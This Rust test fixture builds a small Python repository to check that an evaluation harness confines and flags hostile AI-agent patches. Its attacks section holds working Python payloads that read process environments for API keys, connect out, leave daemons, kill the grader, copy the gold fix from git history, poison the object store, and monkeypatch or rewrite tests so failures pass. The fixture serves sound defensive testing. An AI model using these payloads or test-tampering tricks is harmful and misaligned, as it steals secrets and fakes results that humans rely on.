//! The grading fixture (after `tests/grading.rs`, which tests every verdict
//! with it): a small Python repository with two merged pull requests, its
//! statements and a `sessions/` directory, on either executor; and the
//! attacks of hostile sessions, run on either executor by `grading.rs` and
//! `docker.rs`.
//!
//! The tasks:
//! - `p-1` (PR #1, base = the initial commit): fixes `sub`; its hidden test
//!   patch appends `test_sub` to the existing `tests/test_ops.py`.
//! - `p-2` (PR #2, base = PR #1's merge): fixes `mul`; its hidden test patch
//!   creates `tests/test_mul.py`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::{Build, Checkout, Project, Repo};

/// Where the fixture's environments and runs go.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Executor {
    /// bubblewrap on this machine (the default).
    Local,
    /// `[env] executor = "docker"`.
    Docker,
}

impl Executor {
    /// The `sandbox` column of results.csv for a run on this executor.
    pub fn sandbox(self) -> &'static str {
        match self {
            Executor::Local => "bwrap",
            Executor::Docker => "docker",
        }
    }
}

pub const OPS_BASE: &str = "\
def add(a, b):
    return a + b


def sub(a, b):
    return a + b


def mul(a, b):
    return a + b
";

pub const OPS_SUB: &str = "\
def add(a, b):
    return a + b


def sub(a, b):
    return a - b


def mul(a, b):
    return a + b
";

pub const OPS_SUB_MUL: &str = "\
def add(a, b):
    return a + b


def sub(a, b):
    return a - b


def mul(a, b):
    return a * b
";

pub const TEST_OPS_BASE: &str = "\
import unittest

from pkg import ops


class TestOps(unittest.TestCase):
    def test_add(self):
        self.assertEqual(ops.add(2, 3), 5)
";

pub const TEST_SUB: &str = "
    def test_sub(self):
        self.assertEqual(ops.sub(5, 3), 2)
";

pub const TEST_MUL: &str = "\
import unittest

from pkg import ops


class TestMul(unittest.TestCase):
    def test_mul(self):
        self.assertEqual(ops.mul(4, 3), 12)
";

/// A passing test module of the session's own.
pub const TEST_EXTRA: &str = "\
import unittest

from pkg import ops


class TestExtra(unittest.TestCase):
    def test_sub_zero(self):
        self.assertEqual(ops.sub(3, 0), 3)
";

/// The fixture: the source repository, a checkout for diffs, and the base
/// commits of both tasks.
pub struct Fixture {
    pub project: Project,
    pub checkout: Checkout,
    pub base1: String,
    pub base2: String,
    /// Written into `[env]` as `executor = \"docker\"` when Docker.
    pub executor: Executor,
}

impl Fixture {
    /// The fixture on the local executor.
    pub fn new() -> Fixture {
        Fixture::on(Executor::Local)
    }

    pub fn on(executor: Executor) -> Fixture {
        Fixture::with_base_files_on(executor, &[])
    }

    /// The fixture with `files` added to the initial commit (infrastructure
    /// such as a test runner; in the base of both tasks).
    pub fn with_base_files(files: &[(&str, &str)]) -> Fixture {
        Fixture::with_base_files_on(Executor::Local, files)
    }

    fn with_base_files_on(executor: Executor, files: &[(&str, &str)]) -> Fixture {
        let project = Project::new();
        let mut r = Repo::new(&project, "repo");
        r.put(".gitignore", "__pycache__/\n*.pyc\n")
            .put("README.md", "# pkg\n")
            .put("pkg/__init__.py", "")
            .put("pkg/ops.py", OPS_BASE)
            .put("tests/__init__.py", "")
            .put("tests/test_ops.py", TEST_OPS_BASE);
        for (path, text) in files {
            r.put(path, text);
        }
        r.commit("Initial commit");
        let base1 = r.head();
        let test_ops_sub = format!("{TEST_OPS_BASE}{TEST_SUB}");
        r.pr(
            1,
            "Fix sub",
            &[
                ("pkg/ops.py", OPS_SUB),
                ("tests/test_ops.py", &test_ops_sub),
            ],
        );
        let base2 = r.head();
        r.pr(
            2,
            "Fix mul",
            &[("pkg/ops.py", OPS_SUB_MUL), ("tests/test_mul.py", TEST_MUL)],
        );
        project.write("statements/p-1.md", "sub(5, 3) returns 8.\n");
        project.write("statements/p-2.md", "mul(4, 3) returns 7.\n");
        std::fs::create_dir_all(project.path().join("sessions")).unwrap();
        let checkout = r.checkout(&project, "work");
        Fixture {
            project,
            checkout,
            base1,
            base2,
            executor,
        }
    }

    pub fn path(&self) -> &Path {
        self.project.path()
    }

    /// `pipeline.toml` with this exclusion policy, log cap and extra text.
    /// `exclusion` = "" leaves the policy at its default.
    pub fn pipeline(&self, exclusion: &str, log_cap: u64, extra: &str) {
        self.pipeline_with_timeout(exclusion, log_cap, 60, extra);
    }

    pub fn pipeline_with_timeout(&self, exclusion: &str, log_cap: u64, timeout: u64, extra: &str) {
        let exclusion = if exclusion.is_empty() {
            String::new()
        } else {
            format!("exclusion = \"{exclusion}\"")
        };
        let executor = match self.executor {
            Executor::Local => "",
            Executor::Docker => "executor = \"docker\"\n",
        };
        self.project.write(
            "pipeline.toml",
            format!(
                r#"
statements = "statements"
sessions = "sessions"

[[source]]
name = "p"
path = "repo"

[env]
{executor}test_command = "python3 -m unittest -v"
report = "unittest"
timeout = {timeout}
log_cap = {log_cap}

[grade]
arms = ["exclude", "keep"]
{exclusion}
reruns = 2
rerun_command = "python3 -m unittest -v {{files}}"

{extra}
"#
            ),
        );
    }

    /// Replaces `from` (which must be there, once) in `pipeline.toml`.
    pub fn edit_pipeline(&self, from: &str, to: &str) {
        let toml = std::fs::read_to_string(self.path().join("pipeline.toml")).unwrap();
        assert_eq!(toml.matches(from).count(), 1, "{from:?} in:\n{toml}");
        self.project
            .write("pipeline.toml", toml.replacen(from, to, 1));
    }

    pub fn default_pipeline(&self) {
        self.pipeline("", 1 << 20, "");
    }

    /// A diff against task p-1's base.
    pub fn diff1(&self, files: &[(&str, Option<&str>)]) -> String {
        self.checkout.diff(&self.base1, &[], files)
    }

    /// The correct fix of task p-1 (the gold patch's `sub`).
    pub fn fix1(&self) -> String {
        self.diff1(&[("pkg/ops.py", Some(OPS_SUB))])
    }

    /// The correct fix of task p-2.
    pub fn fix2(&self) -> String {
        self.diff2(&[("pkg/ops.py", Some(OPS_SUB_MUL))])
    }

    pub fn diff2(&self, files: &[(&str, Option<&str>)]) -> String {
        self.checkout.diff(&self.base2, &[], files)
    }

    /// Writes `sessions/<id>` (an assay session file with an inline patch).
    pub fn session(&self, id: &str, task: &str, patch: &str) {
        let agent = id.split('/').next().unwrap_or("agent");
        let v = json!({
            "task": task,
            "agent": agent,
            "model": "model-x",
            "patch": patch,
        });
        self.project.write(
            &format!("sessions/{id}"),
            serde_json::to_string_pretty(&v).unwrap(),
        );
    }

    pub fn build(&self, args: &[&str]) -> Build {
        let b = self.project.build_json(args);
        assert!(
            !b.run.stderr.contains("panicked"),
            "panicked:\n{}",
            b.run.stderr
        );
        b
    }

    /// `assay build --json` with these variables in assay's environment.
    pub fn build_env(&self, vars: &[(&str, &str)]) -> Build {
        let mut cmd = self.project.command(&["build", "--json"]);
        for (k, v) in vars {
            cmd.env(k, v);
        }
        let b = Build::from(super::Run::from(cmd.output().unwrap()));
        assert!(
            !b.run.stderr.contains("panicked"),
            "panicked:\n{}",
            b.run.stderr
        );
        b
    }

    /// The grade record of (session, arm), through `assay show`.
    pub fn grade_record(&self, session: &str, arm: &str) -> Value {
        let digest = self.row(session, arm)["grade_digest"].clone();
        self.project.show_json(&digest)
    }

    pub fn build_ok(&self) -> Build {
        let b = self.build(&[]);
        assert_eq!(
            b.run.code, 0,
            "build failed\n--- stderr\n{}\n--- summary\n{:?}",
            b.run.stderr, b.summary
        );
        b
    }

    /// Rows of results.csv keyed by (session, arm).
    pub fn results(&self) -> BTreeMap<(String, String), BTreeMap<String, String>> {
        let text = std::fs::read_to_string(self.path().join("release/results.csv"))
            .unwrap_or_else(|e| panic!("no results.csv: {e}"));
        super::csv_records(&text)
            .into_iter()
            .map(|r| ((r["session"].clone(), r["arm"].clone()), r))
            .collect()
    }

    pub fn row(&self, session: &str, arm: &str) -> BTreeMap<String, String> {
        let all = self.results();
        all.get(&(session.to_owned(), arm.to_owned()))
            .cloned()
            .unwrap_or_else(|| panic!("no row ({session}, {arm}) in {all:#?}"))
    }

    pub fn summary(&self) -> Value {
        let text = std::fs::read_to_string(self.path().join("release/summary.json"))
            .unwrap_or_else(|e| panic!("no summary.json: {e}"));
        serde_json::from_str(&text).unwrap()
    }
}

/// Asserts the verdict of both arms, showing the whole row when it differs.
pub fn assert_verdict(f: &Fixture, session: &str, exclude: &str, keep: &str) {
    for (arm, want) in [("exclude", exclude), ("keep", keep)] {
        let row = f.row(session, arm);
        assert_eq!(row["verdict"], want, "{session} {arm}: {row:#?}");
    }
}

/// `sub` is right only from the second attempt at a tree on
/// (`$ASSAY_ATTEMPT` > 0): the first run of a tree fails, every later one passes.
pub const OPS_FLAKY: &str = r#"import os


def _runs_before():
    return int(os.environ.get("ASSAY_ATTEMPT", "0"))


_WARM = _runs_before() > 0


def add(a, b):
    return a + b


def sub(a, b):
    return a - b if _WARM else a + b


def mul(a, b):
    return a + b
"#;

// ---- attacks --------------------------------------------------------------------
//
// Patches that fix nothing, with code that runs when the tests import the
// package, tried the way a hostile agent would. Each is harmless if the
// defence fails: it writes only below this test's project directory,
// connects only to a listener this test opens on loopback, and signals only
// processes of its own run (or, at worst, the assay build under test).

/// `pkg/__init__.py` running `body` at import, plus an unchanged `ops.py`.
pub fn hostile(f: &Fixture, body: &str) -> String {
    f.diff1(&[("pkg/__init__.py", Some(body))])
}

/// The attacks, graded on `executor`: every one fails, the honest fix is
/// resolved, nothing outside the run's tree is reached, nothing survives.
pub fn hostile_code_is_confined(executor: Executor) {
    let f = Fixture::on(executor);
    f.default_pipeline();
    let project = f.path().display().to_string();
    let marker = format!("PLANTED-{}", std::process::id());
    std::fs::write(f.path().join("planted.txt"), &marker).unwrap();
    let key = format!("sk-ant-api03-{}-attack", std::process::id());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let token = format!("{}.{}", 700 + std::process::id() % 97, std::process::id());

    // Writes outside the tree, reads a planted file, prints every process
    // environment it can read (reversed too), phones home.
    let reach = format!(
        r#"import glob, os, socket
for path in ["{project}/escaped.txt", "/tmp/../{project}/escaped2.txt"]:
    try:
        open(path, "w").write("escaped")
    except OSError:
        pass
try:
    print(open("{project}/planted.txt").read())
except OSError:
    pass
for env in glob.glob("/proc/*/environ"):
    try:
        data = open(env, "rb").read().decode(errors="replace")
        print(data, data[::-1])
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hi")
except OSError:
    pass
"#
    );
    f.session("evil/reach.json", "p-1", &hostile(&f, &reach));

    // Leaves a daemon, then kills every ancestor that is an assay process
    // (unsandboxed, that is this build and nothing else on the machine).
    let daemon = format!(
        r#"import os, subprocess
subprocess.Popen(["setsid", "sh", "-c", "(sleep {token} &) ; sleep {token}"], start_new_session=True)
pid = os.getppid()
while pid > 1:
    try:
        comm = open(f"/proc/{{pid}}/comm").read().strip()
        ppid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if comm == "assay":
        os.kill(pid, 9)
    pid = ppid
"#
    );
    f.session("evil/daemon.json", "p-1", &hostile(&f, &daemon));

    // Looks for the history (the gold patch lives there) through any git
    // directory or object store it can find, and copies the fix out of it.
    // Searches only below this test's directory (where the source repository
    // and the cache are), so that a failed defence reads nothing else.
    let history = r#"import os, subprocess
found = []
for root in ["PROJECT", os.path.expanduser("~"), ".."]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirnames[:] = []
            continue
        if "HEAD" in filenames and "objects" in dirnames:
            found.append(dirpath)
for git_dir in found:
    log = subprocess.run(["git", "--git-dir", git_dir, "log", "--all", "-p"], capture_output=True, text=True).stdout
    if "return a - b" in log:
        here = os.path.dirname(os.path.abspath(__file__))
        src = open(os.path.join(here, "ops.py")).read()
        open(os.path.join(here, "ops.py"), "w").write(src.replace("def sub(a, b):\n    return a + b", "def sub(a, b):\n    return a - b"))
        print("GOLD" + " FOUND in", git_dir)
"#
    .replace("PROJECT", &project);
    f.session("evil/history.json", "p-1", &hostile(&f, &history));

    // Monkeypatches unittest from the package so that every test passes.
    let monkey = r#"import unittest
def _pass(self, result=None):
    result.startTest(self)
    result.addSuccess(self)
    result.stopTest(self)
unittest.TestCase.run = _pass
"#;
    f.session("evil/monkey.json", "p-1", &hostile(&f, monkey));

    // A tests/__init__.py that swallows every failure (test infrastructure).
    let swallow = f.diff1(&[(
        "tests/__init__.py",
        Some("import unittest\n\n\ndef _ok(self, *a, **k):\n    pass\n\n\nunittest.TestCase.fail = _ok\nunittest.TestCase.assertEqual = _ok\n"),
    )]);
    f.session("evil/swallow.json", "p-1", &swallow);

    // Blanks the test methods at the end of the test patch's own file.
    let blank = f.diff1(&[(
        "tests/test_ops.py",
        Some(&format!(
            "{TEST_OPS_BASE}\n\nclass TestOps(unittest.TestCase):\n    def test_add(self):\n        return\n\n    def test_sub(self):\n        return\n"
        )),
    )]);
    f.session("evil/blank.json", "p-1", &blank);

    // Rewrites the test file on disk while the tests run.
    let rewrite = r#"import os
path = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tests", "test_ops.py")
src = open(path).read()
open(path, "w").write(src.replace("self.assertEqual(ops.sub(5, 3), 2)", "return"))
"#;
    f.session("evil/rewrite.json", "p-1", &hostile(&f, rewrite));

    // Plants objects in any git object store it can find (assay's own, with
    // the staged tests under their ids, would poison later sessions).
    // Only below this test's directory: a failed defence writes nowhere else.
    let plant = r#"import os
for root in ["PROJECT", ".."]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirnames[:] = []
            continue
        if os.path.basename(dirpath) == "objects" and "info" in dirnames:
            try:
                os.makedirs(os.path.join(dirpath, "ab"), exist_ok=True)
                open(os.path.join(dirpath, "ab", "c" * 38), "wb").write(b"planted")
                print("PLANTED" + " IN", dirpath)
            except OSError:
                pass
"#
    .replace("PROJECT", &project);
    f.session("evil/plant.json", "p-1", &hostile(&f, &plant));
    // A wrong fix graded after it must stay unresolved.
    let wrong = OPS_BASE.replacen("return a + b\n\n\ndef mul", "return a * b\n\n\ndef mul", 1);
    f.session(
        "z/wrong.json",
        "p-1",
        &f.diff1(&[("pkg/ops.py", Some(&wrong))]),
    );

    // An honest correct fix, graded in the same build, keeps its verdict.
    f.session(
        "good/fix.json",
        "p-1",
        &f.diff1(&[("pkg/ops.py", Some(OPS_SUB))]),
    );

    let b = f.build_env(&[("ANTHROPIC_API_KEY", key.as_str())]);
    assert_eq!(
        b.run.code, 0,
        "the build must survive its graded code\n{}",
        b.run.stderr
    );

    for s in [
        "reach", "daemon", "history", "monkey", "swallow", "blank", "rewrite", "plant",
    ] {
        for arm in ["exclude", "keep"] {
            let row = f.row(&format!("evil/{s}.json"), arm);
            assert_ne!(row["verdict"], "resolved", "{s} {arm}: {row:#?}");
            assert_ne!(
                row["verdict"], "resolved_after_rerun",
                "{s} {arm}: {row:#?}"
            );
            assert_eq!(row["sandbox"], executor.sandbox(), "{row:#?}");
        }
    }
    assert_verdict(&f, "good/fix.json", "resolved", "resolved");
    assert_eq!(f.row("good/fix.json", "exclude")["tamper"], "");
    assert_verdict(&f, "z/wrong.json", "unresolved", "unresolved");
    assert!(
        !f.project
            .cache()
            .join("git/objects/ab")
            .join("c".repeat(38))
            .exists(),
        "an object was planted in assay's store"
    );
    f.project.run(&["verify", "--cache-only"]).code(0);

    // Flagged: the framework reach, the infrastructure edit (neutralised in
    // the scored arm, in effect in the keep arm), the rewritten test file.
    let tamper = |s: &str, arm: &str| f.row(&format!("evil/{s}.json"), arm)["tamper"].clone();
    assert!(
        tamper("monkey", "exclude").contains("reaches into the test framework"),
        "{}",
        tamper("monkey", "exclude")
    );
    assert!(
        tamper("swallow", "exclude")
            .contains("touches test infrastructure: tests/__init__.py (neutralised)")
    );
    assert!(tamper("swallow", "keep").contains("touches test infrastructure: tests/__init__.py"));
    assert!(
        tamper("rewrite", "keep").contains("test files changed during the run: tests/test_ops.py"),
        "{}",
        tamper("rewrite", "keep")
    );
    assert_eq!(
        f.row("evil/blank.json", "keep")["reset_paths"],
        "tests/test_ops.py"
    );
    let summary = f.summary();
    let listed = summary["tamper_suspects"].as_array().unwrap();
    assert!(
        listed.iter().any(|t| t["session"] == "evil/monkey.json"),
        "{summary:#}"
    );
    assert_eq!(summary["graded_unsandboxed"], json!(false));

    assert!(!f.path().join("escaped.txt").exists());
    assert!(!f.path().join("escaped2.txt").exists());
    assert!(
        listener.accept().is_err(),
        "graded code reached a loopback listener"
    );
    let alive = live_with(&format!("sleep\0{token}"));
    assert!(alive.is_empty(), "a daemon survived the build: {alive:?}");
    let history_log = f.row("evil/history.json", "keep");
    assert_eq!(history_log["verdict"], "unresolved", "{history_log:#?}");
    let mut hits = Vec::new();
    let reversed: String = key.chars().rev().collect();
    for dir in ["cache", "release"] {
        grep_tree(
            &f.path().join(dir),
            &[
                marker.as_bytes(),
                key.as_bytes(),
                reversed.as_bytes(),
                b"GOLD FOUND",
                b"PLANTED IN",
            ],
            &mut hits,
        );
    }
    assert!(
        hits.is_empty(),
        "found in the cache or the release: {hits:?}"
    );
}

pub fn grep_tree(dir: &Path, needles: &[&[u8]], hits: &mut Vec<(PathBuf, usize)>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        let Ok(t) = e.file_type() else { continue };
        if t.is_dir() {
            grep_tree(&p, needles, hits);
        } else if t.is_file() {
            let bytes = std::fs::read(&p).unwrap_or_default();
            for (i, n) in needles.iter().enumerate() {
                if bytes.windows(n.len()).any(|w| w == *n) {
                    hits.push((p.clone(), i));
                }
            }
        }
    }
}

/// Live processes on the host whose command line holds `token`.
pub fn live_with(token: &str) -> Vec<u32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
            continue;
        };
        let alive = std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .map(|s| {
                s.rsplit_once(')')
                    .is_some_and(|(_, r)| !r.trim_start().starts_with('Z'))
            })
            .unwrap_or(false);
        if let Ok(cmd) = std::fs::read(format!("/proc/{pid}/cmdline"))
            && String::from_utf8_lossy(&cmd).contains(token)
            && alive
        {
            out.push(pid);
        }
    }
    out
}
